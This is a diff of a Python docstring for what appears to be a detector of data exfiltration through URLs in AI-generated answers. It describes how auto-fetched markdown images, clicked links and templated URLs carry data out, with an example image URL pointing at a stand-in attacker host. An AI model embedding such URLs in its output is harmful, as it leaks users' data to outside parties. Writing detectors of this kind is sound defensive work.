@@ -4,10 +4,12 @@ allowlist, and URLs with long query strings.
 A markdown image (`![x](https://evil.example/p.png?d=...)`) or an HTML `<img>` is fetched
 by the client that renders the answer, with no click: any data in its URL leaves. A
 markdown link leaks when clicked. The data rides in the query string, the fragment (one
-that is not a heading's anchor such as `#getting-started`), or a long path segment; an image or link URL that is a template to fill in (`?q={secret}`,
+that is not a heading's anchor such as `#getting-started`), or a long path segment that
+reads as encoded. An image or link URL that is a template to fill in (`?q={secret}`,
 `[DATA]`, `$VAR`) is flagged whatever its length, and so is a bare URL whose query or
-fragment is one (a placeholder in a bare URL's path is also how API routes are written). Hosts are read as `url.host` reads them; a host in the
-allowlist, or a subdomain of one, never counts.
+fragment is one (a placeholder in a bare URL's path is also how API routes are written).
+Hosts are read as `url.host` reads them; a host in the allowlist, or a subdomain of one,
+never counts.
 """
 
 from __future__ import annotations
